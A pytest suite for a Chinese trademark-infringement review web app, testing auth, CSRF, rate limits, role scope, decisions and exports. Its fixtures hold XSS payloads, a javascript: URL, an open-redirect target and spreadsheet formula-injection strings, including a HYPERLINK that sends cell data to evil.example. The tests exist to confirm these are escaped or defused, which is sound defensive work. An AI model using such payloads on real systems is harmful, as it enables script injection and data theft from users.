"""The review web app over HTTP (in-process TestClient): auth, CSRF, roles and brand scope, the queue,
the lead page, decisions, the blacklist, the brand-owner portal, exports and the JSON API."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from factories import (  # csrf_of and login are imported from here by other test files too
    PASSWORD,
    ReasonStub,
    ScoreStub,
    csrf_of,
    login,
    make_brand,
    make_lead,
    make_snapshot,
    make_user,
)
from fastapi.testclient import TestClient

from storage import Database
from storage.models import JobRun, Lead, Listing, ReviewEvent, Seller

HOSTILE_TITLE = '<script>alert("标题")</script>康帅傅 方便面'
HOSTILE_SELLER = '<img src=x onerror="alert(1)">黑店'


@pytest.fixture
def world(db: Database) -> dict[str, int]:
    """Two brands, users of every role, and leads on each brand (one hostile)."""
    ids: dict[str, int] = {}
    with db.session() as s:
        make_brand(s, "康师傅")
        make_brand(s, "李宁", aliases=("LI-NING",), registrations=[("7654321", 25)], categories=["运动鞋"])
        make_user(s, "管理员", role="admin")
        make_user(s, "审核员", role="reviewer")
        make_user(s, "调查员", role="investigator")
        make_user(s, "康师傅权利人", role="brand_owner", brands=("康师傅",))
        ids["ksf"] = make_lead(s).id
        ids["ksf_low"] = make_lead(s, score=ScoreStub(risk=0.55), title="康师傅 老坛酸菜 低风险").id
        ids["lining"] = make_lead(
            s,
            score=ScoreStub(risk=0.8, brand="李宁", violation="counterfeit_mark", department="商标处"),
            title="李宁 运动鞋 高仿 1:1",
            price=299.0,
            sold=200,
        ).id
        hostile = make_lead(
            s,
            title=HOSTILE_TITLE,
            url="javascript:alert(document.cookie)",
            seller={"id": "evil", "name": HOSTILE_SELLER, "licence": "91350100M000100Y43"},
            description='<iframe src="http://evil.example/"></iframe>说明',
        )
        ids["hostile"] = hostile.id
        ids["snapshot"] = make_snapshot(
            s,
            db.blobs,
            hostile.listing,
            html="<html><body><h1>快照</h1><script>alert(2)</script></body></html>",
        ).id
    return ids


@pytest.fixture
def client(db: Database, world: dict[str, int]) -> TestClient:
    from review.app import create_app

    return TestClient(create_app())


def post_form(client: TestClient, path: str, data: dict, page: str = "/?since=all"):  # type: ignore[no-untyped-def]
    return client.post(path, data={**data, "csrf_token": csrf_of(client, page)}, follow_redirects=False)


# --- log in, sessions, CSRF, rate limit ---------------------------------------------------------------


def test_login_page_is_chinese_and_pages_need_a_login(client: TestClient) -> None:
    response = client.get("/", follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"].startswith("/login")
    page = client.get("/login")
    assert "登录" in page.text and "用户名" in page.text and 'lang="zh-CN"' in page.text
    assert client.get("/api/v1/leads").status_code == 401


def test_session_cookie_is_httponly_and_samesite(client: TestClient) -> None:
    token = csrf_of(client)
    response = client.post(
        "/login", data={"name": "审核员", "password": PASSWORD, "csrf_token": token}, follow_redirects=False
    )
    cookie = response.headers["set-cookie"].lower()
    assert "mw_session=" in cookie and "httponly" in cookie and "samesite=lax" in cookie


def test_wrong_password_is_refused_in_chinese(client: TestClient) -> None:
    token = csrf_of(client)
    response = client.post("/login", data={"name": "审核员", "password": "错误", "csrf_token": token})
    assert response.status_code == 401 and "用户名或密码不正确" in response.text
    assert client.get("/", follow_redirects=False).status_code == 303


def test_login_without_csrf_token_is_refused(client: TestClient) -> None:
    client.get("/login")
    response = client.post("/login", data={"name": "审核员", "password": PASSWORD}, follow_redirects=False)
    assert response.status_code == 403 and "csrf_token" in response.text


def test_a_form_without_or_with_a_wrong_csrf_token_changes_nothing(client: TestClient, world, db) -> None:
    login(client, "审核员")
    lead = world["ksf"]
    missing = client.post(f"/leads/{lead}/decision", data={"action": "confirm"}, follow_redirects=False)
    forged = client.post(
        f"/leads/{lead}/decision", data={"action": "confirm", "csrf_token": "forged"}, follow_redirects=False
    )
    assert missing.status_code == 403 and forged.status_code == 403
    with db.session() as s:
        assert s.get(Lead, lead).status == "new"


def test_login_is_rate_limited_per_user(client: TestClient) -> None:
    for _ in range(5):
        token = csrf_of(client)
        client.post("/login", data={"name": "审核员", "password": "不对", "csrf_token": token})
    token = csrf_of(client)
    response = client.post(
        "/login", data={"name": "审核员", "password": PASSWORD, "csrf_token": token}, follow_redirects=False
    )
    assert response.status_code == 429 and "登录失败次数过多" in response.text
    # another user from the same address is not locked out by someone else's failures
    assert login(client, "调查员")


def test_login_is_rate_limited_per_address(client: TestClient) -> None:
    for i in range(20):
        token = csrf_of(client)
        client.post("/login", data={"name": f"猜测{i}", "password": "x", "csrf_token": token})
    token = csrf_of(client)
    response = client.post("/login", data={"name": "审核员", "password": PASSWORD, "csrf_token": token})
    assert response.status_code == 429


def test_login_limiter_keeps_no_entry_for_names_that_did_not_fail(db: Database) -> None:
    from review.security import LoginLimiter

    limiter = LoginLimiter(db)
    for i in range(200):
        assert not limiter.blocked(f"随机{i}", "10.0.0.1")
    assert len(limiter) == 0


def test_login_limiter_forgets_failures_that_left_the_window(db: Database) -> None:
    from sqlalchemy import func, select

    from review.security import LoginLimiter
    from storage.models import LoginFailure

    now = [1_000_000.0]
    limiter = LoginLimiter(db, window=900, clock=lambda: now[0])
    for i in range(300):  # a flood of fresh names from many addresses
        if not limiter.blocked(f"随机{i}", f"10.0.{i // 200}.{i % 200}"):
            limiter.failed(f"随机{i}", f"10.0.{i // 200}.{i % 200}")
    assert len(limiter) == 600  # 300 names, 300 addresses
    now[0] += 901
    limiter.failed("审核员", "10.9.9.9")
    assert len(limiter) == 2  # the flood's entries left the window and were deleted
    with db.session() as s:
        assert s.scalar(select(func.count()).select_from(LoginFailure)) == 2


def test_sixth_failed_login_is_refused_after_a_flood_of_other_names(client: TestClient) -> None:
    limiter = client.app.state.limiter
    for i in range(200):
        limiter.failed(f"随机{i}", f"10.0.{i // 20}.{i % 20}")
    for _ in range(5):
        token = csrf_of(client)
        wrong = client.post("/login", data={"name": "审核员", "password": "不对", "csrf_token": token})
        assert wrong.status_code == 401
    token = csrf_of(client)
    response = client.post(
        "/login", data={"name": "审核员", "password": PASSWORD, "csrf_token": token}, follow_redirects=False
    )
    assert response.status_code == 429


def test_logout_ends_the_session(client: TestClient) -> None:
    login(client, "审核员")
    assert post_form(client, "/logout", {}).status_code == 303
    assert client.get("/", follow_redirects=False).headers["location"].startswith("/login")


def test_open_redirect_after_login_is_refused(client: TestClient) -> None:
    token = csrf_of(client)
    response = client.post(
        "/login",
        data={"name": "审核员", "password": PASSWORD, "csrf_token": token, "next": "//evil.example/"},
        follow_redirects=False,
    )
    assert response.headers["location"] == "/"


# --- roles and brand scope ----------------------------------------------------------------------------


def test_brand_owner_sees_only_its_brands_leads(client: TestClient, world) -> None:
    login(client, "康师傅权利人")
    queue = client.get("/?since=all")
    assert "康帅傅" in queue.text and "李宁 运动鞋" not in queue.text
    assert client.get(f"/leads/{world['ksf']}").status_code == 200
    other = client.get(f"/leads/{world['lining']}")
    assert other.status_code == 404 and "没有找到" in other.text
    assert client.get(f"/api/v1/leads/{world['lining']}").status_code == 404
    assert client.get(f"/api/v1/leads/{world['lining']}/evidence").status_code == 404
    api = client.get("/api/v1/leads", params={"status": "all"}).json()
    assert {item["brand"] for item in api["items"]} == {"康师傅"}
    assert "李宁" not in client.get("/export.csv?since=all").content.decode("utf-8-sig")


def test_brand_owner_cannot_see_other_brands_snapshots(client: TestClient, db, world) -> None:
    with db.session() as s:
        lining = s.get(Lead, world["lining"])
        snap = make_snapshot(s, db.blobs, lining.listing, html="<p>李宁快照</p>").id
    login(client, "康师傅权利人")
    assert client.get(f"/snapshots/{snap}/html").status_code == 404
    assert client.get(f"/snapshots/{world['snapshot']}/html").status_code == 200


def test_brand_owner_may_not_decide(client: TestClient, world) -> None:
    login(client, "康师傅权利人")
    response = post_form(client, f"/leads/{world['ksf']}/decision", {"action": "confirm"})
    assert response.status_code == 403 and "无权" in response.text
    assert "无权作出处理决定" in client.get(f"/leads/{world['ksf']}").text


def test_investigator_transfers_but_does_not_confirm(client: TestClient, world) -> None:
    login(client, "调查员")
    assert post_form(client, f"/leads/{world['ksf']}/decision", {"action": "confirm"}).status_code == 403
    asked = post_form(client, f"/leads/{world['lining']}/decision", {"action": "transfer", "note": "移送"})
    assert asked.status_code == 200 and "确认移送公安？" in asked.text  # the confirmation step
    response = post_form(
        client, f"/leads/{world['lining']}/decision", {"action": "transfer", "note": "移送", "confirmed": "1"}
    )
    assert response.status_code == 303
    page = client.get(f"/leads/{world['lining']}").text
    assert "已移送" in page and 'id="lead-department">经检处' in page


def test_admin_pages_are_for_admins_only(client: TestClient) -> None:
    login(client, "审核员")
    for path in ("/admin/status", "/admin/approvals"):
        assert client.get(path).status_code == 403
    assert client.get("/blacklist").status_code == 200


def test_blacklist_page_is_closed_to_brand_owners(client: TestClient) -> None:
    login(client, "康师傅权利人")
    assert client.get("/blacklist").status_code == 403


# --- queue ----------------------------------------------------------------------------------------------


def test_queue_opens_on_the_whole_backlog_with_what_is_new_first_and_marked(
    client: TestClient, db, world
) -> None:
    login(client, "审核员")
    first = client.get("/", follow_redirects=False)
    assert first.headers["location"] == "/?status=open"  # never visited: every open lead
    assert "共 4 条线索" in client.get(first.headers["location"]).text
    second = client.get("/", follow_redirects=False)
    assert "new_since=20" in second.headers["location"]  # the first visit's time marks what is new
    again = client.get(second.headers["location"]).text
    assert "共 4 条线索" in again and "没有符合条件的线索" not in again  # the backlog stays
    assert 'class="tag new"' not in again  # nothing flagged since the first visit
    with db.session() as s:
        make_lead(s, score=ScoreStub(risk=0.51), title="康师傅 新来的线索")
    page = client.get(second.headers["location"]).text
    assert "共 5 条线索" in page and "自上次访问" in page
    # the new lead, though the least risky, comes first and is marked; the backlog follows by risk
    assert page.index("康师傅 新来的线索") < page.index("康帅傅 红烧牛肉面") < page.index("李宁 运动鞋")
    new_row = page[page.index('class="lead-row fresh"') :].split("</tr>")[0]
    assert "康师傅 新来的线索" in new_row and '<span class="tag new">新</span>' in new_row
    assert page.count('<span class="tag new">') == 1
    # "since the last visit" is a filter one chooses
    only_new = re.search(r'href="(\?[^"]*since=[^"]*)" id="only-new"', page)
    assert only_new is not None
    chosen = client.get("/" + only_new.group(1).replace("&amp;", "&")).text
    assert "共 1 条线索" in chosen and "康师傅 新来的线索" in chosen


def test_queue_is_sorted_by_risk_and_filtered_with_counts(client: TestClient, world) -> None:
    login(client, "审核员")
    page = client.get("/?since=all").text
    assert page.index("李宁 运动鞋") > page.index("康帅傅 红烧牛肉面")  # 0.9 before 0.8
    assert page.index("老坛酸菜") > page.index("李宁 运动鞋")
    assert "共 4 条线索" in page
    assert "康师傅（3）" in page and "李宁（1）" in page  # counts per brand
    filtered = client.get("/?since=all&brand=李宁").text
    assert "共 1 条线索" in filtered and "康帅傅 红烧" not in filtered
    assert "康师傅（3）" in filtered  # a facet's counts ignore its own filter
    text = client.get("/?since=all&q=老坛").text
    assert "共 1 条线索" in text
    risky = client.get("/?since=all&risk_min=85").text
    assert "共 2 条线索" in risky
    violation = client.get("/?since=all&violation=counterfeit_mark").text
    assert "共 1 条线索" in violation and "假冒注册商标" in violation
    today = datetime.now(UTC).date()
    dated = client.get(f"/?since=all&from={today - timedelta(days=1)}&to={today + timedelta(days=1)}").text
    assert "共 4 条线索" in dated
    assert "共 0 条线索" in client.get(f"/?since=all&from={today + timedelta(days=3)}").text


def test_queue_pages(client: TestClient, db) -> None:
    with db.session() as s:
        for i in range(55):
            make_lead(s, score=ScoreStub(risk=0.6 + i / 1000), title=f"康帅傅 批量 {i}")
    login(client, "审核员")
    first = client.get("/?since=all").text
    assert "第 1 / 2 页" in first and "下一页" in first
    second = client.get("/?since=all&page=2").text
    assert "第 2 / 2 页" in second and "上一页" in second


def test_bad_filter_values_get_a_chinese_error(client: TestClient) -> None:
    login(client, "审核员")
    response = client.get("/?since=all&risk_min=很高")
    assert response.status_code == 400 and "请求有误" in response.text


def test_a_bad_path_or_query_value_is_named_in_the_pages_language(client: TestClient) -> None:
    login(client, "审核员")
    lead = client.get("/leads/abc")
    assert lead.status_code == 400 and "线索编号（lead_id）：“abc”不是整数" in lead.text
    page = client.get("/?since=all&page=第二页")
    assert page.status_code == 400 and "页码（page）：“第二页”不是整数" in page.text
    assert "Input should be" not in lead.text + page.text
    client.get("/lang/en")
    lead = client.get("/leads/abc")
    assert lead.status_code == 400 and "Lead number (lead_id): “abc” is not a whole number" in lead.text
    assert "不是整数" not in lead.text


def test_a_bad_form_value_is_named_in_the_pages_language(client: TestClient, world) -> None:
    login(client, "审核员")
    path = f"/leads/{world['ksf']}/decision"
    long_note = post_form(client, path, {"action": "dismiss", "note": "误" * 2001})
    assert long_note.status_code == 400 and "备注（note）：不能超过 2000 个字符" in long_note.text
    no_action = post_form(client, path, {"note": "x"})
    assert no_action.status_code == 400 and "缺少操作（action）" in no_action.text
    client.get("/lang/en")
    no_action = post_form(client, path, {"note": "x"})
    assert "Action (action) is missing" in no_action.text and "缺少" not in no_action.text


def test_an_admins_bad_approval_action_is_named_in_the_pages_language(client: TestClient) -> None:
    login(client, "管理员")
    refused = post_form(client, "/admin/brands/1/decision", {"action": "批准吧"})
    assert refused.status_code == 400
    assert "操作（action）：“批准吧”无效，可选值为 approve, reject" in refused.text


def test_a_bad_queue_filter_is_named_in_the_pages_language(client: TestClient) -> None:
    login(client, "审核员")
    day = client.get("/?since=all&from=bad")
    assert day.status_code == 400 and "起始日期（from）：“bad”不是日期" in day.text
    client.get("/lang/en")
    risk = client.get("/?since=all&risk_min=很高")
    assert risk.status_code == 400 and "Minimum risk (risk_min): “很高” is not a number" in risk.text


def test_the_api_keeps_fastapis_validation_errors(client: TestClient, token: str) -> None:
    response = client.get("/api/v1/leads/abc", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 422
    error = response.json()["detail"][0]
    assert error["loc"] == ["path", "lead_id"] and error["type"] == "int_parsing"


def test_bulk_confirm_and_bulk_dismiss_needs_a_reason(client: TestClient, db, world) -> None:
    login(client, "审核员")
    ids = [world["ksf"], world["ksf_low"]]
    refused = post_form(client, "/bulk", {"action": "dismiss", "ids": ids, "next": "/?since=all"})
    # no error page: back on the same queue, which says the reason is missing and still shows the leads
    assert refused.status_code == 303 and refused.headers["location"].startswith("/?since=all&bulk_error=")
    queue = client.get(refused.headers["location"]).text
    assert 'id="bulk-error"' in queue and "驳回" in queue and "康帅傅" in queue
    with db.session() as s:
        assert {s.get(Lead, i).status for i in ids} == {"new"}
    forged = client.get("/?since=all&bulk_error=error.403").text
    assert 'id="bulk-error"' not in forged  # only the messages a bulk form can get
    done = post_form(client, "/bulk", {"action": "confirm", "ids": ids, "next": "/?since=all"})
    assert done.status_code == 303 and "done=2" in done.headers["location"]
    with db.session() as s:
        assert {s.get(Lead, i).status for i in ids} == {"confirmed"}


# --- the lead page and decisions ----------------------------------------------------------------------


def test_lead_page_shows_the_listing_reasons_and_trail_in_chinese(client: TestClient, world) -> None:
    login(client, "审核员")
    page = client.get(f"/leads/{world['ksf']}").text
    for text in (
        "康帅傅 红烧牛肉面",
        "¥9.90",
        "判定理由",
        "商标近似",
        "字形近似",
        "价格走势",
        "<svg",
        "处理记录",
        "系统标记",
        "公平交易处",
    ):
        assert text in page, text


def test_hostile_listing_is_escaped_and_its_url_is_not_a_link(client: TestClient, world) -> None:
    login(client, "审核员")
    page = client.get(f"/leads/{world['hostile']}").text
    assert "<script>alert" not in page and "&lt;script&gt;" in page
    assert "<img src=x" not in page and "&lt;img src=x onerror=" in page
    assert 'href="javascript:' not in page and "非 http 链接" in page
    assert '<iframe src="http://evil' not in page
    queue = client.get("/?since=all").text
    assert "<script>alert" not in queue and "<img src=x" not in queue


def test_snapshot_is_served_sandboxed(client: TestClient, world) -> None:
    login(client, "审核员")
    page = client.get(f"/leads/{world['hostile']}").text
    assert f'src="/snapshots/{world["snapshot"]}/html" sandbox=""' in page
    snap = client.get(f"/snapshots/{world['snapshot']}/html")
    csp = snap.headers["content-security-policy"]
    assert csp.startswith("sandbox") and "default-src 'none'" in csp and "img-src data:" in csp
    assert "script-src" not in csp
    assert snap.headers["x-content-type-options"] == "nosniff"
    pages_csp = client.get("/?since=all").headers["content-security-policy"]
    assert "script-src 'self'" in pages_csp and "unsafe-inline" not in pages_csp


def test_unified_social_credit_code_is_checked_on_the_lead_page(client: TestClient, world) -> None:
    login(client, "审核员")
    page = client.get(f"/leads/{world['hostile']}").text
    assert "91350100M000100Y43" in page and "统一社会信用代码" in page
    assert "校验通过" in page or "校验未通过" in page


def test_a_wrong_check_digit_still_shows_the_region_in_the_pages_language(client: TestClient, db) -> None:
    with db.session() as s:
        lead = make_lead(s, seller={"id": "typo", "name": "抄错店", "licence": "914403001922038217"}).id
    login(client, "审核员")
    page = client.get(f"/leads/{lead}").text
    assert "登记地：广东省深圳市" in page
    assert "校验未通过：校验码错误：第 18 位应为“6”，实际为“7”" in page
    client.get("/lang/en")
    page = client.get(f"/leads/{lead}").text
    assert "issued in 广东省深圳市" in page
    assert "invalid: wrong check character: character 18 should be “6”, not “7”" in page
    assert "校验码错误" not in page


def test_criminal_threshold_arithmetic_is_shown(client: TestClient, db, world) -> None:
    with db.session() as s:
        big = make_lead(
            s,
            score=ScoreStub(brand="李宁", violation="counterfeit_mark", department="商标处"),
            title="李宁 高仿运动鞋",
            price=299.0,
            sold=200,
        )
        assert big.transfer_review
        big_id = big.id
    login(client, "审核员")
    page = client.get(f"/leads/{big_id}").text
    assert "估算销售额 = 单价 ¥299.00 × 销量 200 = ¥59,800.00" in page
    assert "已达到 ¥50,000.00 的标准" in page


def test_dismiss_needs_a_reason_and_records_the_snapshot(client: TestClient, db, world) -> None:
    login(client, "审核员")
    lead = world["ksf"]
    refused = post_form(client, f"/leads/{lead}/decision", {"action": "dismiss", "note": "  "})
    assert "error=error.dismiss_reason" in refused.headers["location"]
    assert "驳回必须填写理由" in client.get(refused.headers["location"]).text
    done = post_form(client, f"/leads/{lead}/decision", {"action": "dismiss", "note": "正品授权店，误报"})
    assert done.status_code == 303
    with db.session() as s:
        row = s.get(Lead, lead)
        assert row.status == "dismissed" and row.dismissed_risk == pytest.approx(0.9)
        assert row.dismissed_content_hash == row.listing.content_hash
    page = client.get(f"/leads/{lead}").text
    assert "正品授权店，误报" in page and "审核员" in page


def test_assign_sets_the_department_and_appends_events(client: TestClient, db, world) -> None:
    login(client, "审核员")
    lead = world["ksf"]
    assert (
        post_form(client, f"/leads/{lead}/decision", {"action": "assign", "department": "不存在的处"})
        .headers["location"]
        .endswith("error=error.department")
    )
    post_form(
        client, f"/leads/{lead}/decision", {"action": "assign", "department": "商标处", "note": "转商标处"}
    )
    post_form(
        client, f"/leads/{lead}/decision", {"action": "escalate", "note": "请领导审阅", "confirmed": "1"}
    )
    with db.session() as s:
        row = s.get(Lead, lead)
        assert row.department == "商标处" and row.status == "escalated"
        actions = [e.action for e in s.query(ReviewEvent).filter_by(lead_id=lead).order_by(ReviewEvent.id)]
    assert actions == ["flagged", "assign", "escalate"]


def test_third_confirmed_lead_blacklists_the_seller(client: TestClient, db) -> None:
    seller = {"id": "s-repeat", "name": "屡犯商行"}
    with db.session() as s:
        leads = [make_lead(s, seller=seller, title=f"康帅傅 第{i}款").id for i in range(3)]
        other = make_lead(s, seller=seller, title="康帅傅 其他商品").listing_id
    login(client, "审核员")
    for lead in leads[:2]:
        post_form(client, f"/leads/{lead}/decision", {"action": "confirm"})
    assert "屡犯商行" not in client.get("/blacklist").text
    last = post_form(client, f"/leads/{leads[2]}/decision", {"action": "confirm"})
    assert "blacklisted=1" in last.headers["location"]
    assert "已列入黑名单" in client.get(last.headers["location"]).text
    page = client.get("/blacklist").text
    assert "屡犯商行" in page and all(f"#{i}" in page for i in leads)
    with db.session() as s:
        row = s.query(Seller).filter_by(external_id="s-repeat").one()
        assert row.blacklisted and str(leads[0]) in row.blacklist_reason
        listing = s.get(Listing, other)
        # re-scored now (when the scorer is installed) or left for the scheduler: never silently skipped
        events = s.query(ReviewEvent).filter_by(action="seller_blacklisted").count()
        assert events == 1
        assert listing.scored_at is None or listing.scored_at > row.blacklisted_at - timedelta(seconds=5)


# --- brand-owner portal and approval ------------------------------------------------------------------


def _png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (32, 32), (200, 30, 30)).save(out, format="PNG")
    return out.getvalue()


def test_brand_owner_registers_a_brand_that_waits_for_approval(client: TestClient, db) -> None:
    login(client, "康师傅权利人")
    response = client.post(
        "/brands",
        data={
            "csrf_token": csrf_of(client, "/brands"),
            "name": "康帅傅",
            "aliases": "Kang Shuai Fu",
            "owner": "某某食品有限公司",
            "registrations": "9999999 30",
            "categories": "方便面",
            "price_floor": "2.5",
        },
        files={"images": ("官方图.png", _png(), "image/png")},
        follow_redirects=False,
    )
    assert response.status_code == 303, response.text
    assert "待审批" in client.get("/brands").text
    admin = login(TestClient(client.app), "管理员")
    approvals = admin.get("/admin/approvals").text
    assert "康帅傅" in approvals and "康帅傅权利人" not in approvals
    assert (
        "与已登记或待审批的商标近似" in approvals and "康帅傅 ≈ 康师傅" in approvals
    )  # the squatter is shown up
    with db.session() as s:
        from storage.brands import get_brand

        brand = get_brand(session=s, name="康帅傅")
        assert brand.status == "pending" and len(brand.official_images) == 1
        brand_id = brand.id
    post_form(
        admin,
        f"/admin/brands/{brand_id}/decision",
        {"action": "reject", "note": "与康师傅近似，疑似抢注"},
        page="/admin/approvals",
    )
    with db.session() as s:
        assert s.get(type(brand), brand_id).status == "rejected"


def test_portal_uses_the_registry_files_validation(client: TestClient) -> None:
    login(client, "康师傅权利人")
    response = client.post(
        "/brands",
        data={
            "csrf_token": csrf_of(client, "/brands"),
            "name": "新品牌",
            "registrations": "123 99",
            "price_floor": "-3",
        },
        follow_redirects=False,
    )
    assert response.status_code == 400 and "登记未通过校验" in response.text
    assert "尼斯分类“99”无效：应为 1–45 的整数" in response.text
    exists = client.post(
        "/brands", data={"csrf_token": csrf_of(client, "/brands"), "name": "康师傅"}, follow_redirects=False
    )
    assert exists.status_code == 400 and "品牌“康师傅”已存在，不能重复登记。" in exists.text


def test_approved_brand_joins_the_owners_scope(client: TestClient, db) -> None:
    login(client, "康师傅权利人")
    client.post("/brands", data={"csrf_token": csrf_of(client, "/brands"), "name": "统一老坛"})
    with db.session() as s:
        from storage.brands import get_brand

        brand_id = get_brand(session=s, name="统一老坛").id
    admin = login(TestClient(client.app), "管理员")
    assert post_form(admin, f"/admin/brands/{brand_id}/decision", {"action": "approve"}).status_code == 303
    with db.session() as s:
        make_lead(s, score=ScoreStub(brand="统一老坛"), title="统一老坛 酸菜面")
    assert "统一老坛 酸菜面" in client.get("/?since=all").text


def test_reviewer_cannot_register_brands(client: TestClient) -> None:
    login(client, "审核员")
    response = client.post("/brands", data={"csrf_token": csrf_of(client, "/brands"), "name": "某品牌"})
    assert response.status_code == 403


# --- exports, digest, status, language -----------------------------------------------------------------


def test_csv_export_has_chinese_headers_and_defuses_formulas(client: TestClient, db) -> None:
    with db.session() as s:
        make_lead(s, title='=HYPERLINK("http://evil","点我") 康帅傅')
    login(client, "审核员")
    response = client.get("/export.csv?since=all")
    assert response.headers["content-disposition"].startswith("attachment")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:4] == ["线索编号", "风险", "状态", "违法类型"]
    titles = [r[7] for r in rows[1:]]
    assert any(t.startswith("'=HYPERLINK") for t in titles) and not any(t.startswith("=") for t in titles)
    assert "近似商标/傍名牌" in text
    # the price a number, its currency beside it
    assert [(r[9], r[10]) for r in rows[1:] if "HYPERLINK" in r[7]] == [("9.9", "CNY")]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "|")


@pytest.fixture
def hostile_export(db: Database) -> None:
    """A lead with a formula in every text column a feed or the scorer can fill."""
    with db.session() as s:
        make_brand(s, '=HYPERLINK("http://evil.example/?"&A1,"品牌")')
        make_lead(
            s,
            id='=HYPERLINK("http://evil.example/?"&A1,"x"):1',
            platform='=HYPERLINK("http://evil.example/?"&A1,"x")',
            title="+1+1 康帅傅",
            url="-2+3",
            currency="=1+2&",
            price=199.0,
            seller={"id": "f", "name": "@SUM(1,1) 店"},
            score=ScoreStub(
                brand='=HYPERLINK("http://evil.example/?"&A1,"品牌")',
                violation="|calc'!A0",
                department="\t=1+1",
            ),
        )


def test_csv_export_turns_no_scraped_text_into_a_formula(client: TestClient, hostile_export) -> None:
    login(client, "审核员")
    text = client.get("/export.csv?since=all").content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    hostile = next(r for r in rows if "康帅傅" in r[7] and r[7].startswith("'"))
    assert hostile[6] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'  # platform
    assert hostile[9] == "199.0" and hostile[10] == "'=1+2&"  # the price, and the scraped currency
    assert hostile[4] == "'\\x09=1+1" and hostile[5].startswith(
        "'=HYPERLINK"
    )  # department, brand (tab shown)
    assert hostile[3] == "'|calc'!A0" and hostile[8] == "'-2+3" and hostile[12] == "'@SUM(1,1) 店"
    bad = [(i, field) for r in rows for i, field in enumerate(r) if field.startswith(FORMULA_STARTS)]
    assert not bad


def test_xlsx_export_has_no_formula_cell(client: TestClient, hostile_export) -> None:
    from openpyxl import load_workbook

    login(client, "审核员")
    book = load_workbook(io.BytesIO(client.get("/export.xlsx?since=all").content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'=1+2&" in texts and '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in texts
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]


def test_xlsx_export_answers_with_control_characters_in_scraped_text(
    client: TestClient, db: Database
) -> None:
    """One NUL in one scraped title once made the whole export a 500 for everyone (illegal in XML)."""
    from openpyxl import load_workbook

    with db.session() as s:
        make_brand(s, "康师傅")
        make_lead(s, title="康帅傅\x00方便面\x1b[2K\x0b", seller={"id": "n", "name": "店\x07"})
    login(client, "审核员")
    response = client.get("/export.xlsx?since=all")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    texts = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert "康帅傅\\x00方便面\\x1b[2K\\x0b" in texts and "店\\x07" in texts
    text = client.get("/export.csv?since=all").content.decode("utf-8")
    assert "康帅傅\\x00方便面\\x1b[2K\\x0b" in text and "\x00" not in text


def test_xlsx_export_has_chinese_headers(client: TestClient) -> None:
    from openpyxl import load_workbook

    login(client, "审核员")
    response = client.get("/export.xlsx?since=all&brand=李宁")
    book = load_workbook(io.BytesIO(response.content))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][0] == "线索编号" and rows[0][7] == "商品标题"
    assert len(rows) == 2 and rows[1][7] == "李宁 运动鞋 高仿 1:1"


def test_xlsx_export_is_typed_and_formatted_with_links_to_each_leads_page(
    db: Database, world, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl import load_workbook

    from review.app import create_app
    from settings import get_settings

    with db.session() as s:
        make_lead(s, score=ScoreStub(risk=0.9978), title="康师傅 价格", price=1299.5, currency="USD")
    for public, base in ((None, "http://testserver"), ("https://markwatch.example.gov.cn/", None)):
        settings = get_settings().model_copy(update={"public_url": public})
        client = TestClient(create_app(settings))
        login(client, "审核员")
        book = load_workbook(io.BytesIO(client.get("/export.xlsx?status=open").content))
        sheet = book.active
        header = [c.value for c in sheet[1]]
        assert header[9:11] == ["价格", "币种"] and header[-1] == "线索页面"
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:P{sheet.max_row}"
        assert sheet.column_dimensions["H"].width == 48 and all(c.font.bold for c in sheet[1])
        row = next(r for r in sheet.iter_rows(min_row=2) if "价格" in str(r[7].value))
        assert row[1].value == pytest.approx(0.9978) and row[1].number_format == "0.0%"  # shows 99.8%
        assert row[9].value == 1299.5 and row[9].number_format == "#,##0.00" and row[10].value == "USD"
        lead_id = row[0].value
        expected = (public or "").rstrip("/") or base
        assert row[15].value == f"{expected}/leads/{lead_id}" and row[15].hyperlink.target == row[15].value
        texts = [c.value for r in sheet.iter_rows() for c in r if isinstance(c.value, str)]
        assert not [t for t in texts if t.startswith(FORMULA_STARTS)]


def test_digest_page_has_a_chart_by_violation(client: TestClient) -> None:
    login(client, "审核员")
    page = client.get("/digest").text
    assert "近 30 天每日新增线索" in page and "<svg" in page and "近似商标/傍名牌" in page
    assert "30 天合计 4 条" in page


def test_status_page_lists_job_runs(client: TestClient, db) -> None:
    with db.session() as s:
        s.add(JobRun(job_id="crawl:demo-static", outcome="failed", error="连接被拒绝"))
    login(client, "管理员")
    page = client.get("/admin/status").text
    assert "crawl:demo-static" in page and "连接被拒绝" in page and "公平交易处" in page


def test_status_page_shows_the_fingerprint_that_verify_key_pins(client: TestClient, db, world) -> None:
    from review.evidence import build_packet, verify_packet

    login(client, "管理员")
    shown = re.search(r'id="key-fingerprint">([0-9a-f ]+)<', client.get("/admin/status").text)
    assert shown and len(shown.group(1).split()) == 8
    packet = build_packet(db, world["ksf"], user_name="管理员")
    assert verify_packet(packet, expected_key=shown.group(1)).ok


def test_an_export_by_a_login_that_is_no_user_shows_that_login(client: TestClient, db, world) -> None:
    from review.evidence import build_packet

    build_packet(db, world["ksf"], user_name="ops-zhang", via="cli")  # the OS login of a CLI export
    login(client, "审核员")
    audit = re.search(
        r'<table class="audit" id="audit">.*?</table>', client.get(f"/leads/{world['ksf']}").text, re.S
    )
    assert audit and "ops-zhang" in audit.group(0)


def test_english_switch(client: TestClient) -> None:
    login(client, "审核员")
    switched = client.get("/lang/en?next=/?since=all", follow_redirects=False)
    assert switched.headers["location"] == "/?since=all"
